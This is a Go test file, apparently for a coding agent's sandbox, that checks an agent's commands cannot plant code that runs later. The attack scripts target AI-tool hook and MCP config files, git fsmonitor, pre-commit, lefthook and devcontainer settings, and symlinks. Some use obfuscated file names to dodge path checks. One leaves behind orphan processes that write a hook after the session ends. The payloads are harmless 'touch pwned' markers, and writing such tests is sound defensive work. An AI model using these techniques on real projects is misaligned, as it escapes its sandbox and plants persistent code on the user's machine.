// project hooks run programs when the person next starts opencode or
// Cursor's agent here; they are locked like .claude where they exist.
func TestOpencodeCursorHooksAttacks(t *testing.T) {
	needNamespaces(t)
	tools := func(t *testing.T, w *world) {
		write(t, filepath.Join(w.proj, ".opencode", "plugins", "fmt.js"), "export const P = async () => ({})\n")
		write(t, filepath.Join(w.proj, "opencode.jsonc"), `{"mcp":{}}`)
		write(t, filepath.Join(w.proj, ".cursor", "hooks.json"), `{"version":1,"hooks":{}}`)
	}
	for _, a := range []attack{
		{name: "opencode plugin", script: `echo 'import {execSync} from "child_process"; execSync("touch pwned")' > .opencode/plugins/fmt.js`, effect: fileHas(".opencode/plugins/fmt.js", "pwned"), setup: tools},
		{name: "opencode new plugin", script: `echo 'import {execSync} from "child_process"; execSync("touch pwned")' > .opencode/plugins/new.js`, effect: fileHas(".opencode/plugins/new.js", "pwned"), setup: tools},
		{name: "opencode jsonc", script: `echo '{"mcp":{"x":{"type":"local","command":["touch","pwned"]}}}' > opencode.jsonc`, effect: fileHas("opencode.jsonc", "pwned"), setup: tools},
		{name: "cursor hooks", script: `echo '{"version":1,"hooks":{"sessionStart":[{"command":"touch pwned"}]}}' > .cursor/hooks.json`, effect: fileHas(".cursor/hooks.json", "pwned"), setup: tools},
	} {
		t.Run(a.name, func(t *testing.T) { a.check(t) })
	}
}

// TestWorktreeConfigAttacks: with extensions.worktreeConfig set (git
// sparse-checkout sets it), git reads the git folder's config.worktree as
// config: its core.fsmonitor runs at the person's next git status. It is
// locked like .git/config.
func TestWorktreeConfigAttacks(t *testing.T) {
	needNamespaces(t)
	sparse := func(t *testing.T, w *world) {
		write(t, filepath.Join(w.proj, ".git", "config"), "[core]\n\trepositoryformatversion = 1\n[extensions]\n\tworktreeConfig = true\n")
		write(t, filepath.Join(w.proj, ".git", "config.worktree"), "[core]\n\tsparseCheckout = true\n")
	}
	for _, a := range []attack{
		{name: "append a setting", script: `printf '[core]\n\tfsmonitor = "touch pwned; false"\n' >> .git/config.worktree`, effect: fileHas(".git/config.worktree", "pwned"), setup: sparse},
		{name: "python rewrite", script: `python3 -c "open('.git/config.work'+'tree','w').write('[core]\\n\\tfsmonitor = touch pwned')"`, effect: fileHas(".git/config.worktree", "pwned"), setup: sparse},
	} {
		t.Run(a.name, func(t *testing.T) { a.check(t) })
	}
}

// TestRooKiroMCPAttacks: Roo Code's and Kiro's project MCP files start
// their servers when the person opens the project in them; they are
// locked like .cursor/mcp.json where they exist.
func TestRooKiroMCPAttacks(t *testing.T) {
	needNamespaces(t)
	tools := func(t *testing.T, w *world) {
		write(t, filepath.Join(w.proj, ".roo", "mcp.json"), `{"mcpServers":{}}`)
		write(t, filepath.Join(w.proj, ".kiro", "settings", "mcp.json"), `{"mcpServers":{}}`)
	}
	servers := `{"mcpServers":{"x":{"command":"touch","args":["pwned"]}}}`
	for _, a := range []attack{
		{name: "roo", script: `echo '` + servers + `' > .roo/mcp.json`, effect: fileHas(".roo/mcp.json", "pwned"), setup: tools},
		{name: "kiro", script: `python3 -c "open('.kiro/settings/mc'+'p.json','w').write('` + servers + `')"`, effect: fileHas(".kiro/settings/mcp.json", "pwned"), setup: tools},
	} {
		t.Run(a.name, func(t *testing.T) { a.check(t) })
	}
}

// TestHookManagerAttacks: pre-commit's and lefthook's installed hooks run,
// at the person's next commit, what their work-tree configuration says; a
// dev container's initializeCommand runs on this machine when the person
// opens the project in it. Where they exist they are locked like
// .git/config.
func TestHookManagerAttacks(t *testing.T) {
	needNamespaces(t)
	tools := func(t *testing.T, w *world) {
		write(t, filepath.Join(w.proj, ".git", "hooks", "pre-commit"), "#!/usr/bin/env bash\n# File generated by pre-commit: https://pre-commit.com\nARGS=(hook-impl --config=.pre-commit-config.yaml --hook-type=pre-commit)\n")
		write(t, filepath.Join(w.proj, ".git", "hooks", "pre-push"), "#!/bin/sh\ncall_lefthook run \"pre-push\" \"$@\"\n")
		write(t, filepath.Join(w.proj, ".pre-commit-config.yaml"), "repos: []\n")
		write(t, filepath.Join(w.proj, "lefthook.yml"), "pre-push:\n  commands: {}\n")
		write(t, filepath.Join(w.proj, ".devcontainer", "devcontainer.json"), `{"image": "debian"}`)
	}
	for _, a := range []attack{
		{name: "pre-commit local hook", script: `printf 'repos:\n- repo: local\n  hooks:\n  - {id: x, name: x, entry: touch pwned, language: system}\n' > .pre-commit-config.yaml`, effect: fileHas(".pre-commit-config.yaml", "pwned"), setup: tools},
		{name: "lefthook command", script: `printf 'pre-push:\n  commands:\n    x:\n      run: touch pwned\n' >> lefthook.yml`, effect: fileHas("lefthook.yml", "pwned"), setup: tools},
		{name: "devcontainer initializeCommand", script: `python3 -c "open('.devcontainer/devcontainer.js'+'on','w').write('{\"initializeCommand\": \"touch pwned\"}')"`, effect: fileHas(".devcontainer/devcontainer.json", "pwned"), setup: tools},
		{name: "devcontainer script beside", script: `echo 'touch pwned' > .devcontainer/init.sh`, effect: fileHas(".devcontainer/init.sh", "pwned"), setup: tools},
	} {
		t.Run(a.name, func(t *testing.T) { a.check(t) })
	}
	// the configuration other forms of the hook name: pre-commit 2.0-2.15
	// (a Python list), 1.6-1.21 (CONFIG), prek's exec line
	const evil = `printf 'repos:\n- repo: local\n  hooks:\n  - {id: x, name: x, entry: touch pwned, language: system}\n' > ci/pre-commit.yaml`
	named := func(hook string) func(t *testing.T, w *world) {
		return func(t *testing.T, w *world) {
			write(t, filepath.Join(w.proj, ".git", "hooks", "pre-commit"), hook)
			write(t, filepath.Join(w.proj, "ci", "pre-commit.yaml"), "repos: []\n")
		}
	}
	for name, hook := range map[string]string{
		"pre-commit 2.0-2.15": "#!/usr/bin/env python3\n# File generated by pre-commit: https://pre-commit.com\n# start templated\nINSTALL_PYTHON = '/usr/bin/python3'\nARGS = ['hook-impl', '--config=ci/pre-commit.yaml', '--hook-type=pre-commit']\n# end templated\n",
		"pre-commit 1.6-1.21": "#!/usr/bin/env python\n\"\"\"File generated by pre-commit: https://pre-commit.com\"\"\"\n# start templated\nCONFIG = 'ci/pre-commit.yaml'\nHOOK_TYPE = 'pre-commit'\n# end templated\n",
		"prek":                "#!/bin/sh\n# File generated by prek: https://github.com/j178/prek\nexec \"$PREK\" hook-impl --hook-dir \"$HERE\" --hook-type=pre-commit --config=\"ci/pre-commit.yaml\" -- \"$@\"\n",
	} {
		a := attack{name: name + ", -c ci/pre-commit.yaml", script: evil, effect: fileHas("ci/pre-commit.yaml", "pwned"), setup: named(hook)}
		t.Run(a.name, func(t *testing.T) { a.check(t) })
	}
}

// TestLinkedRegisteredAttacks: a registered path the person made a link
// (.devcontainer -> tools/devcontainer) leaves commands running, and what
// it leads to is locked: a write through the link, to the target by its
// own path, or of a new file beside it fails. (The link itself lies in a
// folder the command writes; the session's watch sees it replaced.)
func TestLinkedRegisteredAttacks(t *testing.T) {
	needNamespaces(t)
	linked := func(t *testing.T, w *world) {
		write(t, filepath.Join(w.proj, "tools", "devcontainer", "devcontainer.json"), `{"image": "debian"}`)
		must(t, os.Symlink(filepath.Join("tools", "devcontainer"), filepath.Join(w.proj, ".devcontainer")))
	}
	w := newWorld(t)
	linked(t, w)
	if out, err := w.run(t, "echo ran"); err != nil || !strings.Contains(out, "ran") {
		t.Errorf("a plain command in a project with a linked .devcontainer: %v\n%s", err, out)
	}
	// a link to nothing yet: what a command made there no watch would see,
	// so nothing runs, and the refusal names the link
	d := newWorld(t)
	must(t, os.Symlink(filepath.Join("tools", "dc.json"), filepath.Join(d.proj, ".devcontainer.json")))
	if out, err := d.run(t, "echo ran"); err == nil || strings.Contains(out, "ran\n") || !strings.Contains(out, "symbolic link") {
		t.Errorf("a command with .devcontainer.json a link to nothing: %v\n%s", err, out)
	}
	// a link to the person's own file outside what a command writes (a
	// .vscode/settings.json from their dotfiles): read-only already, the
	// command runs, and a write through the link fails
	dotfiles := func(t *testing.T, w *world) {
		write(t, filepath.Join(w.home, "dotfiles", "vscode-settings.json"), `{}`)
		must(t, os.MkdirAll(filepath.Join(w.proj, ".vscode"), 0o755))
		must(t, os.Symlink(filepath.Join(w.home, "dotfiles", "vscode-settings.json"), filepath.Join(w.proj, ".vscode", "settings.json")))
	}
	h := newWorld(t)
	dotfiles(t, h)
	if out, err := h.run(t, "echo ran"); err != nil || !strings.Contains(out, "ran") {
		t.Errorf("a plain command in a project with .vscode/settings.json a link into the home: %v\n%s", err, out)
	}
	for _, a := range []attack{
		{name: "through a link into the home", script: `echo '{"python.defaultInterpreterPath": "./pwned"}' > .vscode/settings.json`, effect: fileHas(".vscode/settings.json", "pwned"), setup: dotfiles},
		{name: "through the link", script: `echo '{"initializeCommand": "touch pwned"}' > .devcontainer/devcontainer.json`, effect: fileHas("tools/devcontainer/devcontainer.json", "pwned"), setup: linked},
		{name: "the target by its path", script: `echo '{"initializeCommand": "touch pwned"}' > tools/devcontainer/devcontainer.json`, effect: fileHas("tools/devcontainer/devcontainer.json", "pwned"), setup: linked},
		{name: "a file beside the target", script: `echo 'touch pwned' > tools/devcontainer/init.sh`, effect: fileHas("tools/devcontainer/init.sh", "pwned"), setup: linked},
	} {
		t.Run(a.name, func(t *testing.T) { a.check(t) })
	}
}

// TestLandlockOnlyOrphans: without namespaces the protected files inside
// the project are watched, not locked: the session's integrity check at
// the next call, and the launcher's baseline when Pi exits, find what a
// command wrote. A command that leaves a process behind (setsid nohup, a
// double fork) had it write a Claude Code hook after both had looked; in
// a PID namespace it dies with the command. Under Landlock alone it must
// die too: the control shows the write lands unconfined.
func TestLandlockOnlyOrphans(t *testing.T) {
	needSandbox(t)
	script := `(setsid nohup sh -c 'sleep 1; mkdir -p .claude; echo pwned > .claude/settings.json' >/dev/null 2>&1 &); (sh -c 'sleep 1; echo pwned > late.txt' &) ; echo started`
	for _, confined := range []bool{true, false} {
		w := newWorld(t)
		var cmd *exec.Cmd
		if confined {
			cmd = exec.Command(faultBin, "sandbox", "exec", "--", "/bin/bash", "-c", script)
			cmd.Env = append(w.env, "PIAGENT_SANDBOX_FAULT=mount")
		} else {
			cmd = exec.Command("/bin/bash", "-c", script)
			cmd.Env = w.env
		}
		cmd.Dir = w.proj
		out, err := cmd.CombinedOutput()
		if err != nil || !strings.Contains(string(out), "started") {
			t.Fatalf("confined %v: %v\n%s", confined, err, out)
		}
		if confined && !strings.Contains(string(out), "Landlock and seccomp alone") {
			t.Fatalf("not run under Landlock alone:\n%s", out)
		}
		time.Sleep(2500 * time.Millisecond)
		hook, late := fileHas(".claude/settings.json", "pwned")(t, w), fileHas("late.txt", "pwned")(t, w)
		switch {
		case confined && (hook || late):
			t.Errorf("a process the command left behind wrote after it ended (hook %v, late.txt %v)", hook, late)
		case !confined && !(hook && late):
			t.Errorf("control: unconfined, the processes left behind did not write (hook %v, late.txt %v), so the test shows nothing", hook, late)
		}
	}
}
